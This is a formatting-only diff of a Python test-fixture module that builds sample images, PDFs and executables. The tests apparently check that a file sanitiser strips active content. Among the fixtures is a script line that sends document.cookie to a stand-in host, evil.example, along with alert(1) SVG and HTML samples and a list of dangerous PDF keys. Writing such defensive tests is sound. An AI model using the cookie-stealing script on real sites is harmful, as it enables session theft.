@@ -25,8 +25,9 @@ def png(w: int = 64, h: int = 48, mode: str = "RGB", **save: object) -> bytes:
     return out.getvalue()
 
 
-def jpeg(w: int = 64, h: int = 48, exif: bytes | None = None, quality: int = 90,
-         **save: object) -> bytes:
+def jpeg(
+    w: int = 64, h: int = 48, exif: bytes | None = None, quality: int = 90, **save: object
+) -> bytes:
     """A valid JPEG: red on the left half, blue on the right."""
     from PIL import Image
 
@@ -40,10 +41,12 @@ def jpeg(w: int = 64, h: int = 48, exif: bytes | None = None, quality: int = 90,
     return out.getvalue()
 
 
-PLIST = (b'<?xml version="1.0" encoding="UTF-8"?>\n<!DOCTYPE plist PUBLIC "-//Apple//DTD PLIST '
-         b'1.0//EN" "http://www.apple.com/DTDs/PropertyList-1.0.dtd">\n<plist version="1.0">'
-         b"<dict><key>com.apple.print.PageFormat.PMHorizontalRes</key><real>72</real></dict>"
-         b"</plist>\n")
+PLIST = (
+    b'<?xml version="1.0" encoding="UTF-8"?>\n<!DOCTYPE plist PUBLIC "-//Apple//DTD PLIST '
+    b'1.0//EN" "http://www.apple.com/DTDs/PropertyList-1.0.dtd">\n<plist version="1.0">'
+    b"<dict><key>com.apple.print.PageFormat.PMHorizontalRes</key><real>72</real></dict>"
+    b"</plist>\n"
+)
 
 
 def photoshop_jpeg(resource: bytes = PLIST, w: int = 64, h: int = 48) -> bytes:
@@ -56,7 +59,9 @@ def photoshop_jpeg(resource: bytes = PLIST, w: int = 64, h: int = 48) -> bytes:
     im.save(out, "JPEG", quality=90)
     data = out.getvalue()
     body = resource + (b"\x00" if len(resource) % 2 else b"")
-    irb = b"8BIM" + struct.pack(">H", 0x0BB7) + b"\x00\x00" + struct.pack(">I", len(resource)) + body
+    irb = (
+        b"8BIM" + struct.pack(">H", 0x0BB7) + b"\x00\x00" + struct.pack(">I", len(resource)) + body
+    )
     seg = b"Photoshop 3.0\x00" + irb
     app13 = b"\xff\xed" + struct.pack(">H", len(seg) + 2) + seg
     return data[:2] + app13 + data[2:]
@@ -70,8 +75,12 @@ def gif(frames: int = 1, w: int = 32, h: int = 32, comment: bytes | None = None)
     for im in ims:
         im.putpalette([v for i in range(256) for v in (i, 255 - i, i // 2)])
     out = io.BytesIO()
-    kw: dict[str, object] = {"save_all": frames > 1, "append_images": ims[1:], "duration": 80,
-                             "loop": 0}
+    kw: dict[str, object] = {
+        "save_all": frames > 1,
+        "append_images": ims[1:],
+        "duration": 80,
+        "loop": 0,
+    }
     if comment is not None:
         kw["comment"] = comment
     ims[0].save(out, "GIF", **kw)
@@ -161,11 +170,16 @@ def pdf(pages: int = 1, build: object = None, **save: object) -> bytes:
 def raw_pdf(*extra: bytes, pad: int = 0) -> bytes:
     """A hand-written one-page PDF with extra objects (numbered from 5), a correct xref table,
     and `pad` bytes of an unused comment early on (to move later objects past the first KiB)."""
-    objs = [b"<< /Type /Catalog /Pages 2 0 R >>",
-            b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
-            (b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Resources << >> "
-             b"/Contents 4 0 R >>"),
-            b"<< /Length 0 >>\nstream\n\nendstream", *extra]
+    objs = [
+        b"<< /Type /Catalog /Pages 2 0 R >>",
+        b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
+        (
+            b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Resources << >> "
+            b"/Contents 4 0 R >>"
+        ),
+        b"<< /Length 0 >>\nstream\n\nendstream",
+        *extra,
+    ]
     out = b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n" + (b"%" + b"p" * pad + b"\n" if pad else b"")
     offsets = []
     for i, body in enumerate(objs, 1):
@@ -179,7 +193,12 @@ def raw_pdf(*extra: bytes, pad: int = 0) -> bytes:
 
 
 ELF = b"\x7fELF\x02\x01\x01\x00" + b"\x00" * 8 + b"\x02\x00\x3e\x00" + b"\x00" * 200
-MZ = b"MZ\x90\x00\x03\x00\x00\x00\x04\x00\x00\x00\xff\xff" + b"\x00" * 50 + b"PE\x00\x00" + b"\x00" * 200
+MZ = (
+    b"MZ\x90\x00\x03\x00\x00\x00\x04\x00\x00\x00\xff\xff"
+    + b"\x00" * 50
+    + b"PE\x00\x00"
+    + b"\x00" * 200
+)
 
 
 def pdf_objects(objs: list[bytes], version: bytes = b"1.7", before_xref: bytes = b"") -> bytes:
@@ -202,15 +221,24 @@ def stream(payload: bytes, extra: bytes = b"") -> bytes:
     return b"<< /Length %d %s>>\nstream\n" % (len(payload), extra) + payload + b"\nendstream"
 
 
-def one_page_pdf(content: bytes = b"BT /F1 24 Tf 72 720 Td (Provsvar) Tj ET", *extra: bytes,
-                 version: bytes = b"1.7", before_xref: bytes = b"") -> bytes:
+def one_page_pdf(
+    content: bytes = b"BT /F1 24 Tf 72 720 Td (Provsvar) Tj ET",
+    *extra: bytes,
+    version: bytes = b"1.7",
+    before_xref: bytes = b"",
+) -> bytes:
     """A one-page PDF with a line of Helvetica text, then extra objects (numbered from 6)."""
-    objs = [b"<< /Type /Catalog /Pages 2 0 R >>",
-            b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
-            (b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] "
-             b"/Resources << /Font << /F1 5 0 R >> >> /Contents 4 0 R >>"),
-            stream(content),
-            b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>", *extra]
+    objs = [
+        b"<< /Type /Catalog /Pages 2 0 R >>",
+        b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
+        (
+            b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] "
+            b"/Resources << /Font << /F1 5 0 R >> >> /Contents 4 0 R >>"
+        ),
+        stream(content),
+        b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>",
+        *extra,
+    ]
     return pdf_objects(objs, version, before_xref)
 
 
@@ -223,8 +251,9 @@ def pe_image() -> bytes:
     """A complete (tiny) Windows PE image without the MZ/DOS stub: PE header, sections, code."""
     coff = struct.pack("<4sHHIIIHH", b"PE\x00\x00", 0x8664, 1, 0, 0, 0, 0xF0, 0x22)
     optional = struct.pack("<HBB", 0x20B, 14, 0) + b"\x00" * (0xF0 - 4)
-    section = struct.pack("<8sIIIIIIHHI", b".text", 0x1000, 0x1000, 0x200, 0x200, 0, 0, 0, 0,
-                          0x60000020)
+    section = struct.pack(
+        "<8sIIIIIIHHI", b".text", 0x1000, 0x1000, 0x200, 0x200, 0, 0, 0, 0, 0x60000020
+    )
     code = b"\x48\x31\xc0\xc3"  # xor rax, rax; ret
     return (coff + optional + section).ljust(0x200, b"\x00") + code.ljust(0x200, b"\xcc")
 
@@ -241,11 +270,14 @@ def _late_stream_pdf(payload: bytes) -> bytes:
     """payload in a stream starting after the first KiB and ending > 64 KiB before the end."""
     early_pad = stream(b"%" * 2048)
     late_pad = stream(b" " * (70 * 1024))
-    return one_page_pdf(b"BT /F1 24 Tf 72 720 Td (Provsvar) Tj ET", early_pad, stream(payload),
-                        late_pad)
+    return one_page_pdf(
+        b"BT /F1 24 Tf 72 720 Td (Provsvar) Tj ET", early_pad, stream(payload), late_pad
+    )
 
 
-SCRIPT_HTML = b"<html><body><script>fetch('https://evil.example/'+document.cookie)</script></body></html>"
+SCRIPT_HTML = (
+    b"<html><body><script>fetch('https://evil.example/'+document.cookie)</script></body></html>"
+)
 
 #: Valid PDFs that carry a payload (name -> (file, the payload that must not reach staff)).
 HOSTILE_PDFS: dict[str, tuple[bytes, bytes]] = {
@@ -261,9 +293,24 @@ def pixels_only_problems(data: bytes) -> list[str]:
     import pikepdf
 
     problems: list[str] = []
-    forbidden = {"/JS", "/JavaScript", "/AA", "/OpenAction", "/AcroForm", "/Annots", "/Names",
-                 "/EmbeddedFiles", "/EmbeddedFile", "/EF", "/URI", "/Launch", "/XFA", "/Metadata",
-                 "/Outlines", "/RichMediaContent"}
+    forbidden = {
+        "/JS",
+        "/JavaScript",
+        "/AA",
+        "/OpenAction",
+        "/AcroForm",
+        "/Annots",
+        "/Names",
+        "/EmbeddedFiles",
+        "/EmbeddedFile",
+        "/EF",
+        "/URI",
+        "/Launch",
+        "/XFA",
+        "/Metadata",
+        "/Outlines",
+        "/RichMediaContent",
+    }
     with pikepdf.open(io.BytesIO(data)) as p:
         if set(p.Root.keys()) - {"/Type", "/Pages"}:
             problems.append(f"catalogue keys {sorted(p.Root.keys())}")
@@ -275,11 +322,19 @@ def pixels_only_problems(data: bytes) -> list[str]:
                     problems.append(f"object with {sorted(bad)}")
                 if d.get("/Type") == "/Font" and str(d.get("/BaseFont")) != "/GlyphLessFont":
                     problems.append(f"font {d.get('/BaseFont')}")
-                if d.get("/Type") == "/FontDescriptor" and str(d.get("/FontName")) != "/GlyphLessFont":
+                if (
+                    d.get("/Type") == "/FontDescriptor"
+                    and str(d.get("/FontName")) != "/GlyphLessFont"
+                ):
                     problems.append(f"font file {d.get('/FontName')}")
         for i, page in enumerate(p.pages):
-            keys = set(page.obj.keys()) - {"/Type", "/Parent", "/MediaBox", "/Resources",
-                                           "/Contents"}
+            keys = set(page.obj.keys()) - {
+                "/Type",
+                "/Parent",
+                "/MediaBox",
+                "/Resources",
+                "/Contents",
+            }
             if keys:
                 problems.append(f"page {i + 1} keys {sorted(keys)}")
             res = page.obj.Resources
@@ -294,7 +349,7 @@ def pixels_only_problems(data: bytes) -> list[str]:
     return problems
 
 
-HEIC = (b"\x00\x00\x00\x18ftypheic\x00\x00\x00\x00mif1heic" + b"\x00\x00\x00\x10meta" + b"\x00" * 200)
+HEIC = b"\x00\x00\x00\x18ftypheic\x00\x00\x00\x00mif1heic" + b"\x00\x00\x00\x10meta" + b"\x00" * 200
 SVG = b'<?xml version="1.0"?>\n<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>'
 HTML = b"<!DOCTYPE html>\n<html><body><script>alert(1)</script></body></html>"
 
